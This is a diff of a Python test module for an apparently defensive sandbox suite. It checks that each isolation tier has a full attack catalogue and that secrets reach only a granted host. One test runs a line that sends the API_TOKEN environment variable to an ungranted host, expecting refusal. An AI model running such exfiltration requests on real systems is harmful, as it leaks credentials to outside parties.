@@ -4,20 +4,22 @@ from __future__ import annotations
 
 import os
 from collections.abc import AsyncIterator
+from typing import get_args
 
 import pytest
 import pytest_asyncio
 
+from pythonic_assistant.adapters.sandbox.choice import Tier, Wanted
 from pythonic_assistant.adapters.sandbox.sandbox import NamespaceSandbox
 from pythonic_assistant.adapters.sandbox.session import NamespaceSession
 from tests.sandbox.suite.arena import arena
-from tests.sandbox.suite.attack import Attack
+from tests.sandbox.suite.attack import BOXED, EVERYWHERE, Attack
 from tests.sandbox.suite.attacks import BY_NAME, for_tier
 from tests.sandbox.suite.layers_off import LAYERS, LayerOff
 from tests.sandbox.suite.run_attacks import in_tier, with_layer_off
 from tests.sandbox.suite.tiers import OPENERS, missing
 from tests.sandbox.suite.trial import Trial
-from tests.sandbox.suite.way_out import way_out
+from tests.sandbox.suite.way_out import API, OTHER, way_out
 
 pytestmark = pytest.mark.asyncio(loop_scope="session")
 
@@ -32,6 +34,30 @@ def _one_of_each_group(tier: str) -> dict[str, Attack]:
 async def trial(sandbox: NamespaceSandbox) -> AsyncIterator[Trial]:
     async with way_out() as way, arena(sandbox, way) as place:
         yield await Trial.begin(place)
+
+
+async def test_no_tier_that_walls_anything_in_is_left_out() -> None:
+    assert {*OPENERS, "unsafe", "auto"} == {*get_args(Tier), "auto"} == set(get_args(Wanted))
+    assert set(OPENERS) == EVERYWHERE
+    for tier in OPENERS:
+        assert len(for_tier(tier)) >= 200
+
+
+@pytest.mark.parametrize("tier", sorted(BOXED))
+async def test_a_granted_host_gets_the_secret_and_no_other_does(tier: str) -> None:
+    if missing(tier):
+        return
+    async with way_out() as way, OPENERS[tier]() as sandbox:
+        await way.ensure_leads_out(sandbox)
+        assert way.secret.value.encode() in way.heard[API]
+        assert way.harm() == ""
+        async with await sandbox.open(access=way.access) as session:
+            ask = f"import os, urllib.request\nurllib.request.urlopen('http://{OTHER}/' + {{}}).status"
+            assert (await session.execute(ask.format("'plain'"), timeout=30)).value == "200"
+            refused = await session.execute(ask.format("os.environ['API_TOKEN']"), timeout=30)
+            assert "HTTPError" in refused.error
+        assert b"/plain" in way.heard[OTHER]
+        assert b"PLACEHOLDER" not in way.heard[OTHER]
 
 
 async def test_catalogue_is_whole() -> None:
